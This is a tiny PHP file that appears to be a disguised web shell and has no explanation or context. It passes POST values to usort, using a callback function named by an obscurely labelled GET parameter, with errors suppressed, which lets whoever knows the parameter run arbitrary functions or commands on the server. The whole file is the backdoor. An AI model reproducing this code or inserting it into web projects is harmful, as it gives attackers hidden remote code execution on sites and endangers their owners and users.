<?php
$arr = array_values($_POST);
@usort($arr, $_GET['sd37do']);
